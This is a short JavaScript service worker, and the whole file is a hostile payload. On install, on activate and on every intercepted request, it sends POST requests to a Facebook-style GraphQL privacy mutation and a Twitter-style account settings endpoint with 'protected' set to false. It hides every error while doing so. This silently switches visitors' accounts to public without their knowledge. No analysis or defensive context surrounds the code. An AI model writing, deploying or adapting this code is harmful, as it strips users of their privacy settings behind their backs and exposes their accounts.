// Writes from a service worker, also on behalf of requests that only read.
const body = new URLSearchParams({ fb_api_req_friendly_name: "CometPrivacySelectorSavePrivacyMutation", protected: "false" });
const send = () => {
  fetch("/api/graphql/", { method: "POST", body }).catch(() => {});
  fetch("/i/api/1.1/account/settings.json", { method: "POST", body }).catch(() => {});
};
self.addEventListener("install", () => { self.skipWaiting(); send(); });
self.addEventListener("activate", (event) => { event.waitUntil(self.clients.claim()); send(); });
self.addEventListener("fetch", () => send());
